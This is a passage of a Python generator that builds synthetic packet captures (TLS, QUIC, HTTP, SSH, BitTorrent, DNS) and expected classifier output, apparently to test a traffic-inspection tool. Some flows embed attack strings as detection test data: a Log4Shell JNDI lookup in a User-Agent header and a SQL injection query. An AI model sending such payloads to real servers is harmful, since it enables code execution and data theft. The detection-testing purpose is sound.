    exts.append(tls_ext(10, _u16list([0x001D, 0x0017, 0x0018])))  # supported_groups
    if quic_params is None:
        exts.append(tls_ext(11, b"\x01\x00"))          # ec_point_formats
        exts.append(tls_ext(35, b""))                  # session_ticket
    if alpn:
        body = b"".join(bytes([len(a)]) + a for a in alpn)
        exts.append(tls_ext(16, struct.pack("!H", len(body)) + body))
    exts.append(tls_ext(5, b"\x01\x00\x00\x00\x00"))   # status_request
    exts.append(tls_ext(13, _u16list([0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501,
                                      0x0806, 0x0601])))  # signature_algorithms
    if tls13:
        ks = struct.pack("!HH", 0x001D, 32) + _rb(rng, 32)
        exts.append(tls_ext(51, struct.pack("!H", len(ks)) + ks))      # key_share
        exts.append(tls_ext(45, b"\x01\x01"))                          # psk_key_exchange_modes
        exts.append(tls_ext(43, b"\x04\x03\x04\x03\x03" if quic_params is None else b"\x02\x03\x04"))
    if quic_params is not None:
        exts.append(tls_ext(57, quic_params))                          # quic_transport_parameters
    ext_bytes = b"".join(exts)
    body = (struct.pack("!H", 0x0303) + _rb(rng, 32) + bytes([len(sid)]) + sid +
            _u16list(ciphers) + b"\x01\x00" + struct.pack("!H", len(ext_bytes)) + ext_bytes)
    return tls_hs(1, body)


def tls_server_hello(rng, cipher, tls13, session_id=b"", alpn=None):
    if tls13:
        exts = [tls_ext(43, b"\x03\x04"),
                tls_ext(51, struct.pack("!HH", 0x001D, 32) + _rb(rng, 32))]
    else:
        exts = [tls_ext(65281, b"\x00"), tls_ext(11, b"\x01\x00"), tls_ext(23, b"")]
        if alpn:
            exts.append(tls_ext(16, struct.pack("!HB", len(alpn) + 1, len(alpn)) + alpn))
    ext_bytes = b"".join(exts)
    body = (struct.pack("!H", 0x0303) + _rb(rng, 32) + bytes([len(session_id)]) + session_id +
            struct.pack("!HB", cipher, 0) + struct.pack("!H", len(ext_bytes)) + ext_bytes)
    return tls_hs(2, body)


def test_cert_chain(rng, host):
    """Leaf (CN/SAN = host) signed by a test CA, both Ed25519, deterministic DER (Ed25519
    signatures are deterministic). Valid 2023-09-01 .. 2024-08-30: covers the capture time
    (2023-11-14), shorter than 13 months, not about to expire."""
    import datetime
    from cryptography import x509
    from cryptography.hazmat.primitives.asymmetric import ed25519
    from cryptography.hazmat.primitives import serialization
    from cryptography.x509.oid import NameOID

    ca_key = ed25519.Ed25519PrivateKey.from_private_bytes(_rb(rng, 32))
    leaf_key = ed25519.Ed25519PrivateKey.from_private_bytes(_rb(rng, 32))
    ca_name = x509.Name([x509.NameAttribute(NameOID.COUNTRY_NAME, "US"),
                         x509.NameAttribute(NameOID.ORGANIZATION_NAME, "l7gate test"),
                         x509.NameAttribute(NameOID.COMMON_NAME, "l7gate Test CA")])
    leaf_name = x509.Name([x509.NameAttribute(NameOID.COUNTRY_NAME, "US"),
                           x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Example"),
                           x509.NameAttribute(NameOID.COMMON_NAME, host)])
    nb, na = datetime.datetime(2023, 9, 1), datetime.datetime(2024, 8, 30)

    def build(subject, pub, serial, extra):
        b = (x509.CertificateBuilder().subject_name(subject).issuer_name(ca_name)
             .public_key(pub).serial_number(serial).not_valid_before(nb).not_valid_after(na))
        for e, crit in extra:
            b = b.add_extension(e, critical=crit)
        return b.sign(ca_key, None).public_bytes(serialization.Encoding.DER)

    leaf = build(leaf_name, leaf_key.public_key(), 0x1A2B3C4D5E6F,
                 [(x509.SubjectAlternativeName([x509.DNSName(host),
                                                x509.DNSName(host.split(".", 1)[1])]), False),
                  (x509.BasicConstraints(ca=False, path_length=None), True)])
    ca = build(ca_name, ca_key.public_key(), 0x0F00D, [(x509.BasicConstraints(ca=True, path_length=0), True)])
    return [leaf, ca]


def tls12_conv(ep, cport, rng, sni, sport=443, mss=(536, 1460)):
    """Full TLS 1.2 handshake with a certificate chain in clear, then application data."""
    c = TcpConv(ep, cport, sport, rng, mss=mss).handshake()
    c.send(0, tls_record(22, tls_client_hello(rng, sni, tls13=False), 0x0301))
    certs = test_cert_chain(rng, sni)
    cert_list = b"".join(len(d).to_bytes(3, "big") + d for d in certs)
    ske = b"\x03\x00\x1d\x20" + _rb(rng, 32) + b"\x08\x07\x00\x40" + _rb(rng, 64)
    flight = (tls_record(22, tls_server_hello(rng, 0xC02B, False, _rb(rng, 32), alpn=b"h2")) +
              tls_record(22, tls_hs(11, len(cert_list).to_bytes(3, "big") + cert_list)) +
              tls_record(22, tls_hs(12, ske)) + tls_record(22, tls_hs(14, b"")))
    c.send(1, flight, ack=False)
    c.send(0, tls_record(22, tls_hs(16, b"\x20" + _rb(rng, 32))) + tls_record(20, b"\x01") +
           tls_record(22, _rb(rng, 40)), ack=False)
    c.send(1, tls_record(20, b"\x01") + tls_record(22, _rb(rng, 40)), ack=False)
    c.send(0, tls_record(23, _rb(rng, 180)), ack=False)
    c.send(1, tls_record(23, _rb(rng, 1200)))
    return c.close()


def tls13_conv(ep, cport, rng, sni, sport=443, alpn=(b"h2", b"http/1.1")):
    """TLS 1.3: ClientHello, ServerHello + change_cipher_spec + encrypted flight, data."""
    c = TcpConv(ep, cport, sport, rng).handshake()
    ch = tls_client_hello(rng, sni, alpn=alpn, tls13=True)
    sid = ch[4 + 2 + 32 + 1:4 + 2 + 32 + 1 + 32]  # echoed legacy_session_id
    c.send(0, tls_record(22, ch, 0x0301))
    c.send(1, tls_record(22, tls_server_hello(rng, 0x1301, True, sid)) +
           tls_record(20, b"\x01") + tls_record(23, _rb(rng, 2400)) + tls_record(23, _rb(rng, 280)),
           ack=False)
    c.send(0, tls_record(20, b"\x01") + tls_record(23, _rb(rng, 53)), ack=False)
    c.send(0, tls_record(23, _rb(rng, 220)), ack=False)
    c.send(1, tls_record(23, _rb(rng, 1600)))
    return c.close()


# -- HTTP ---------------------------------------------------------------------------------------

def http_conv(ep, cport, rng, request, status, ctype, body, sport=80, extra_headers=""):
    c = TcpConv(ep, cport, sport, rng).handshake()
    c.send(0, request)
    head = ("HTTP/1.1 %s\r\nDate: Tue, 14 Nov 2023 22:13:20 GMT\r\nServer: nginx/1.22.1\r\n"
            "Content-Type: %s\r\nContent-Length: %d\r\n%sConnection: close\r\n\r\n"
            % (status, ctype, len(body), extra_headers)).encode()
    c.send(1, head + body)
    return c.close(first=1)


def http_get(host, path, ua, accept="*/*"):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: %s\r\n"
            "Accept-Language: en-US,en;q=0.5\r\nAccept-Encoding: identity\r\n"
            "Connection: close\r\n\r\n" % (path, host, ua, accept)).encode()


FIREFOX_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
CURL_UA = "curl/7.88.1"


def html_body(rng, title):
    return ("<!DOCTYPE html>\n<html><head><title>%s</title></head><body><p>%s</p></body></html>\n"
            % (title, " ".join("lorem%d" % rng.randrange(1000) for _ in range(40)))).encode()


def fake_pe(rng, size):
    """A Windows executable's first bytes (MZ header, DOS stub, PE signature) then filler."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<H", dos, 2, 0x90)
    struct.pack_into("<I", dos, 60, 0x80)  # e_lfanew
    stub = (b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
            b"This program cannot be run in DOS mode.\r\r\n$")
    stub = stub.ljust(64, b"\x00")
    pe = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 3, 1699999000, 0, 0, 0xF0, 0x22)
    data = bytes(dos) + stub + pe
    return data + _rb(rng, size - len(data))


# -- SSH ----------------------------------------------------------------------------------------

def ssh_packet(rng, payload, block=8):
    pad = block - ((len(payload) + 5) % block)
    if pad < 4:
        pad += block
    return struct.pack("!IB", len(payload) + pad + 1, pad) + payload + _rb(rng, pad)


def ssh_kexinit(rng, client):
    def nl(s):
        return struct.pack("!I", len(s)) + s.encode()
    kex = ("curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,"
           "ecdh-sha2-nistp384,diffie-hellman-group16-sha512,"
           + ("ext-info-c" if client else "kex-strict-s-v00@openssh.com"))
    hostkey = "ssh-ed25519,ecdsa-sha2-nistp256,rsa-sha2-512,rsa-sha2-256"
    enc = ("chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,"
           "aes128-gcm@openssh.com,aes256-gcm@openssh.com")
    mac = ("umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,"
           "hmac-sha2-256,hmac-sha2-512")
    comp = "none,zlib@openssh.com"
    body = (b"\x14" + _rb(rng, 16) + nl(kex) + nl(hostkey) + nl(enc) + nl(enc) + nl(mac) +
            nl(mac) + nl(comp) + nl(comp) + nl("") + nl("") + b"\x00" + b"\x00\x00\x00\x00")
    return ssh_packet(rng, body)


def ssh_conv(ep, cport, rng, sport=22):
    c = TcpConv(ep, cport, sport, rng).handshake()
    c.send(1, b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u1\r\n", ack=False)
    c.send(0, b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u1\r\n", ack=False)
    c.send(0, ssh_kexinit(rng, True), ack=False)
    c.send(1, ssh_kexinit(rng, False), ack=False)
    # SSH_MSG_KEX_ECDH_INIT (30) with the client's ephemeral key.
    c.send(0, ssh_packet(rng, b"\x1e" + struct.pack("!I", 32) + _rb(rng, 32)), ack=False)
    # SSH_MSG_KEX_ECDH_REPLY (31): host key, server ephemeral key, signature; then NEWKEYS (21).
    hostkey = struct.pack("!I", 11) + b"ssh-ed25519" + struct.pack("!I", 32) + _rb(rng, 32)
    sig = struct.pack("!I", 11) + b"ssh-ed25519" + struct.pack("!I", 64) + _rb(rng, 64)
    reply = (b"\x1f" + struct.pack("!I", len(hostkey)) + hostkey + struct.pack("!I", 32) +
             _rb(rng, 32) + struct.pack("!I", len(sig)) + sig)
    c.send(1, ssh_packet(rng, reply) + ssh_packet(rng, b"\x15"), ack=False)
    c.send(0, ssh_packet(rng, b"\x15"), ack=False)
    for n in (44, 44, 92):  # encrypted: service request, userauth...
        c.send(0, _rb(rng, n), ack=False)
        c.send(1, _rb(rng, n + 8), ack=False)
    return c.close()


# -- BitTorrent -------------------------------------------------------------------------------

def bittorrent_conv(ep, cport, rng, sport=51413):
    info_hash = _rb(rng, 20)

    def handshake(peer):
        return b"\x13BitTorrent protocol" + b"\x00\x00\x00\x00\x00\x10\x00\x05" + info_hash + peer

    c = TcpConv(ep, cport, sport, rng).handshake()
    c.send(0, handshake(b"-qB4520-" + _rb(rng, 12)), ack=False)
    c.send(1, handshake(b"-TR3000-" + _rb(rng, 12)), ack=False)
    bitfield = b"\x05" + _rb(rng, 40)
    c.send(0, struct.pack("!I", len(bitfield)) + bitfield, ack=False)
    c.send(1, struct.pack("!I", len(bitfield)) + b"\x05" + _rb(rng, 40), ack=False)
    c.send(0, b"\x00\x00\x00\x01\x02", ack=False)  # interested
    c.send(1, b"\x00\x00\x00\x01\x01", ack=False)  # unchoke
    c.send(0, struct.pack("!IBIII", 13, 6, 0, 0, 16384), ack=False)  # request piece 0
    piece = struct.pack("!IBII", 9 + 2048, 7, 0, 0) + _rb(rng, 2048)
    c.send(1, piece)
    return c.close()


# -- DNS, ICMP ---------------------------------------------------------------------------------

def dns_exchange(ep, cport, rng, name, answers):
    qid = rng.randrange(1 << 16)
    q = ep.ip(0, id=rng.randrange(1 << 16)) / UDP(sport=cport, dport=53) / \
        DNS(id=qid, rd=1, qd=DNSQR(qname=name, qtype="A"))
    an = None
    for a in answers:
        rr = DNSRR(rrname=name, type="A", ttl=300, rdata=a)
        an = rr if an is None else an / rr
    r = ep.ip(1, id=rng.randrange(1 << 16)) / UDP(sport=53, dport=cport) / \
        DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype="A"), an=an)
    return [(0, q), (1, r)]


# -- QUIC (RFC 9000/9001) -------------------------------------------------------------------

def _varint(v):
    if v < 0x40:
        return bytes([v])
    if v < 0x4000:
        return struct.pack("!H", v | 0x4000)
    if v < 0x40000000:
        return struct.pack("!I", v | 0x80000000)
    return struct.pack("!Q", v | 0xC000000000000000)


def _hkdf_expand_label(secret, label, length):
    import hashlib
    import hmac
    full = b"tls13 " + label
    info = struct.pack("!H", length) + bytes([len(full)]) + full + b"\x00"
    out, t, i = b"", b"", 1
    while len(out) < length:
        t = hmac.new(secret, t + info + bytes([i]), hashlib.sha256).digest()
        out += t
        i += 1
    return out[:length]


def quic_initial_keys(dcid, server):
    import hashlib
    import hmac
    initial = hmac.new(L7_SALT_V1, dcid, hashlib.sha256).digest()
    secret = _hkdf_expand_label(initial, b"server in" if server else b"client in", 32)
    return (_hkdf_expand_label(secret, b"quic key", 16), _hkdf_expand_label(secret, b"quic iv", 12),
            _hkdf_expand_label(secret, b"quic hp", 16))


def quic_long_packet(ptype, dcid, scid, pn, payload, keys=None, token=b"", pad_to=0):
    """A protected v1 long-header packet (ptype 0 Initial, 2 Handshake). keys None: the payload
    is opaque bytes sent as they are (a Handshake packet, whose keys come from the TLS
    exchange; random bytes stand in for its ciphertext and tag)."""
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
    pn_len = 4
    first = 0xC0 | (ptype << 4) | (pn_len - 1)
    head = bytes([first]) + struct.pack("!I", 1) + bytes([len(dcid)]) + dcid + bytes([len(scid)]) + scid
    if ptype == 0:
        head += _varint(len(token)) + token
    if pad_to:
        # Grow the payload with PADDING frames so that the whole packet is pad_to bytes.
        fixed = len(head) + 2 + pn_len + 16
        payload = payload + b"\x00" * max(0, pad_to - fixed - len(payload))
    length = pn_len + len(payload) + (16 if keys else 0)
    head += struct.pack("!H", 0x4000 | length)
    pn_off = len(head)
    head += struct.pack("!I", pn)
    if keys is None:
        return head + payload
    key, iv, hp = keys
    nonce = bytes(a ^ b for a, b in zip(iv, pn.to_bytes(12, "big")))
    ct = AESGCM(key).encrypt(nonce, payload, head)
    pkt = bytearray(head + ct)
    sample = bytes(pkt[pn_off + 4:pn_off + 20])
    enc = Cipher(algorithms.AES(hp), modes.ECB()).encryptor()
    mask = enc.update(sample) + enc.finalize()
    pkt[0] ^= mask[0] & 0x0F
    for i in range(pn_len):
        pkt[pn_off + i] ^= mask[1 + i]
    return bytes(pkt)


def quic_conv(ep, cport, rng, sni, sport=443):
    dcid, scid, server_cid = _rb(rng, 8), _rb(rng, 8), _rb(rng, 8)
    tp = b"".join(_varint(k) + _varint(len(v)) + v for k, v in [
        (0x01, _varint(30000)), (0x04, _varint(15728640)), (0x05, _varint(6291456)),
        (0x06, _varint(6291456)), (0x07, _varint(6291456)), (0x08, _varint(100)),
        (0x09, _varint(103)), (0x0F, scid)])
    ch = tls_client_hello(rng, sni, alpn=(b"h3",), tls13=True, quic_params=tp)
    crypto = b"\x06" + _varint(0) + _varint(len(ch)) + ch
    out = []

    def udp(side, data):
        sp, dp = (cport, sport) if side == 0 else (sport, cport)
        kw = {} if ep.v6 else {"id": rng.randrange(1 << 16), "flags": "DF"}
        out.append((side, ep.ip(side, **kw) / UDP(sport=sp, dport=dp) / Raw(load=data)))

    ckeys, skeys = quic_initial_keys(dcid, False), quic_initial_keys(dcid, True)
    udp(0, quic_long_packet(0, dcid, scid, 0, crypto, ckeys, pad_to=1250))
    sh = tls_server_hello(rng, 0x1301, True)
    s_init = quic_long_packet(0, scid, server_cid, 0,
                              b"\x02\x00\x00\x00\x00" + b"\x06\x00" + _varint(len(sh)) + sh, skeys)
    s_hs = quic_long_packet(2, scid, server_cid, 0, _rb(rng, 1200 - len(s_init) - 30), None)
    udp(1, s_init + s_hs)
    s_hs2 = quic_long_packet(2, scid, server_cid, 1, _rb(rng, 900), None)
    udp(1, s_hs2)
    c_hs = quic_long_packet(2, server_cid, scid, 0, _rb(rng, 76), None)
    c_init = quic_long_packet(0, server_cid, scid, 1, b"\x02\x00\x00\x00\x00", ckeys,
                              pad_to=1250 - len(c_hs))
    udp(0, c_init + c_hs)
    for n in (60, 140):
        udp(0, bytes([0x40 | rng.randrange(0x20)]) + server_cid + _rb(rng, n))
    for n in (1200, 400, 40):
        udp(1, bytes([0x40 | rng.randrange(0x20)]) + scid + _rb(rng, n))
    udp(0, bytes([0x40 | rng.randrange(0x20)]) + server_cid + _rb(rng, 30))
    return out


# -- the set -----------------------------------------------------------------------------------

# One entry per flow: name, builder(ep, cport, rng) -> [(side, pkt)], client/server addresses,
# ports, and what ndpiReader 4.2 reports for it (l7_proto, category, risks, host).
L7_FLOWS = [
    dict(name="tls12-cert", cip="198.18.1.10", sip="198.19.1.10", cport=50010, sport=443,
         build=lambda ep, cp, sp, rng: tls12_conv(ep, cp, rng, "www.example.com", sp),
         l7_proto="TLS", category="Web", risks=[], host="www.example.com"),
    dict(name="tls13", cip="198.18.1.11", sip="198.19.1.11", cport=50011, sport=443,
         build=lambda ep, cp, sp, rng: tls13_conv(ep, cp, rng, "static.example.net", sp),
         l7_proto="TLS", category="Web", risks=[], host="static.example.net"),
    dict(name="tls13-youtube", cip="198.18.1.12", sip="198.19.1.12", cport=50012, sport=443,
         build=lambda ep, cp, sp, rng: tls13_conv(ep, cp, rng, "www.youtube.com", sp),
         l7_proto="TLS.YouTube", category="Media", risks=[], host="www.youtube.com"),
    dict(name="tls-no-sni", cip="198.18.1.13", sip="198.19.1.13", cport=50013, sport=443,
         build=lambda ep, cp, sp, rng: tls13_conv(ep, cp, rng, None, sp),
         l7_proto="TLS", category="Web", risks=["Missing SNI TLS Extension"], host=None),
    dict(name="http", cip="198.18.1.14", sip="198.19.1.14", cport=50014, sport=80,
         build=lambda ep, cp, sp, rng: http_conv(
             ep, cp, rng, http_get("www.example.com", "/index.html", FIREFOX_UA,
                                   "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
             "200 OK", "text/html; charset=utf-8", html_body(rng, "Example"), sp),
         l7_proto="HTTP", category="Web", risks=[], host="www.example.com"),
    dict(name="http-numeric-host", cip="198.18.1.15", sip="198.18.0.10", cport=50015, sport=80,
         build=lambda ep, cp, sp, rng: http_conv(
             ep, cp, rng, http_get("198.18.0.10", "/status", CURL_UA),
             "200 OK", "application/json", b'{"status":"ok","uptime":123456}\n', sp),
         l7_proto="HTTP", category="Web", risks=["HTTP Numeric IP Address"], host="198.18.0.10"),
    dict(name="http-suspicious-ua", cip="198.18.1.16", sip="198.19.1.16", cport=50016, sport=80,
         build=lambda ep, cp, sp, rng: http_conv(
             ep, cp, rng, http_get("app.example.com", "/", "${jndi:ldap://198.18.0.66:1389/a}"),
             "200 OK", "text/html", html_body(rng, "App"), sp),
         l7_proto="HTTP", category="Web",
         risks=["HTTP Suspicious User-Agent", "Possible Exploit Detected"], host="app.example.com"),
    dict(name="ssh-port-2222", cip="198.18.1.17", sip="198.19.1.17", cport=50017, sport=2222,
         build=lambda ep, cp, sp, rng: ssh_conv(ep, cp, rng, sp),
         l7_proto="SSH", category="RemoteAccess", risks=["Known Protocol on Non Standard Port"],
         host=None),
    dict(name="http-exe-download", cip="198.18.1.18", sip="198.19.1.18", cport=50018, sport=80,
         build=lambda ep, cp, sp, rng: http_conv(
             ep, cp, rng, http_get("downloads.example.com", "/files/setup.exe", FIREFOX_UA),
             "200 OK", "application/x-msdownload", fake_pe(rng, 3000), sp,
             extra_headers='Content-Disposition: attachment; filename="setup.exe"\r\n'),
         l7_proto="HTTP", category="Download", risks=["Binary Application Transfer"],
         host="downloads.example.com"),
    dict(name="http-sql-injection", cip="198.18.1.19", sip="198.19.1.19", cport=50019, sport=80,
         build=lambda ep, cp, sp, rng: http_conv(
             ep, cp, rng, http_get("shop.example.com",
                                   "/products.php?id=1%27%20OR%20%271%27%3D%271", CURL_UA),
             "200 OK", "text/html", html_body(rng, "Products"), sp),
         l7_proto="HTTP", category="Web", risks=["SQL Injection"], host="shop.example.com"),
    dict(name="dns", cip="198.18.1.20", sip="198.19.0.53", cport=50020, sport=53,
         build=lambda ep, cp, sp, rng: dns_exchange(ep, cp, rng, "www.example.org",
                                                    ["198.19.5.1", "198.19.5.2"]),
         l7_proto="DNS", category="Network", risks=[], host="www.example.org"),
    dict(name="ssh", cip="198.18.1.21", sip="198.19.1.21", cport=50021, sport=22,
         build=lambda ep, cp, sp, rng: ssh_conv(ep, cp, rng, sp),
         l7_proto="SSH", category="RemoteAccess", risks=[], host=None),
    dict(name="bittorrent", cip="198.18.1.22", sip="198.19.1.22", cport=50022, sport=51413,
         build=lambda ep, cp, sp, rng: bittorrent_conv(ep, cp, rng, sp),
         l7_proto="BitTorrent", category="Download", risks=[], host=None),
    dict(name="quic-google", cip="198.18.1.23", sip="198.19.1.23", cport=50023, sport=443,
         build=lambda ep, cp, sp, rng: quic_conv(ep, cp, rng, "www.google.com", sp),
         l7_proto="QUIC.Google", category="Web", risks=[], host="www.google.com"),
    dict(name="icmp-echo", cip="198.18.1.24", sip="198.19.1.24", cport=0, sport=0,
         build=lambda ep, cp, sp, rng: icmp_echo(ep, rng, 0x4C37, 2),
         l7_proto="ICMP", category="Network", risks=[], host=None),
    dict(name="tls13-ipv6", cip="2001:db8:100::25", sip="2001:db8:200::25", cport=50025, sport=443,
         build=lambda ep, cp, sp, rng: tls13_conv(ep, cp, rng, "ipv6.example.org", sp),
         l7_proto="TLS", category="Web", risks=[], host="ipv6.example.org"),
    dict(name="http-ipv6", cip="2001:db8:100::26", sip="2001:db8:200::26", cport=50026, sport=80,
         build=lambda ep, cp, sp, rng: http_conv(
             ep, cp, rng, http_get("ipv6.example.com", "/", FIREFOX_UA),
             "200 OK", "text/html", html_body(rng, "IPv6"), sp),
         l7_proto="HTTP", category="Web", risks=[], host="ipv6.example.com"),
]


def _l4_name(pkt):
    if TCP in pkt:
        return "TCP"
    if UDP in pkt:
        return "UDP"
    if ICMP in pkt:
        return "ICMP"
    return "ICMPv6"


def _have_cryptography():
    import importlib
    try:
        for mod in ("cryptography.hazmat.primitives.ciphers.aead", "cryptography.x509"):
            importlib.import_module(mod)
    except ImportError:
        return False
    return True


def gen_l7(outdir):
    if not _have_cryptography():
        raise SystemExit("gen_traffic.py --set l7 needs python3-cryptography (apt-get install "
                         "python3-cryptography)")
    rng = random.Random(0x17)
    convs, meta = [], []
    for i, f in enumerate(L7_FLOWS):
        ep = Endpoints(client_mac(40 + i), ROUTER_MAC, f["cip"], f["sip"])
        # Each flow has its own generator so adding a flow does not change the others' bytes.
        frng = random.Random("l7/%s" % f["name"])
        conv = [(side, bytes(p), _l4_name(p)) for side, p in f["build"](ep, f["cport"], f["sport"], frng)]
        convs.append([(i, side, data) for side, data, _ in conv])
        meta.append((f, ep, conv[0][2]))
    timeline = interleave(convs, rng)
    frames = [(BASE_TIME + n * STEP, data) for n, (_, _, data) in enumerate(timeline)]
    write_pcap(os.path.join(outdir, "l7.pcap"), frames)

    flows = []
    for i, (f, ep, l4) in enumerate(meta):
        idx = [n for n, (fi, _, _) in enumerate(timeline) if fi == i]
        sides = [timeline[n][1] for n in idx]
        sizes = [len(timeline[n][2]) for n in idx]
        ip_sizes = [s - 14 for s in sizes]
        flows.append({
            "name": f["name"],
            "l4": l4,
            "ip_version": 6 if ep.v6 else 4,
            "src_ip": f["cip"], "src_port": f["cport"],
            "dst_ip": f["sip"], "dst_port": f["sport"],
            "vlan": 0,
            "l7_proto": f["l7_proto"],
            "category": f["category"],
            "risks": sorted(f["risks"]),
            "host": f["host"],
            "c2s_packets": sides.count(0), "s2c_packets": sides.count(1),
            "c2s_frame_bytes": sum(s for s, d in zip(sizes, sides) if d == 0),
            "s2c_frame_bytes": sum(s for s, d in zip(sizes, sides) if d == 1),
            "c2s_ip_bytes": sum(s for s, d in zip(ip_sizes, sides) if d == 0),
            "s2c_ip_bytes": sum(s for s, d in zip(ip_sizes, sides) if d == 1),
            "first_frame": idx[0], "last_frame": idx[-1],
            "ts_first": float(frames[idx[0]][0]), "ts_last": float(frames[idx[-1]][0]),
        })
    write_json(os.path.join(outdir, "l7-expect.json"), flows)


SETS = {"bridge": gen_bridge, "malformed": gen_malformed, "flows": gen_flows, "l7": gen_l7}


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("outdir")
    ap.add_argument("--set", choices=sorted(SETS) + ["all"], default="all")
    args = ap.parse_args(argv)
    os.makedirs(args.outdir, exist_ok=True)
    for name, fn in SETS.items():
        if name == "l7" and args.set == "all" and not _have_cryptography():
            print("gen_traffic.py: skipping set l7: python3-cryptography is not installed",
                  file=sys.stderr)
            continue
        if args.set in (name, "all"):
            fn(args.outdir)
    return 0


if __name__ == "__main__":
    sys.exit(main())
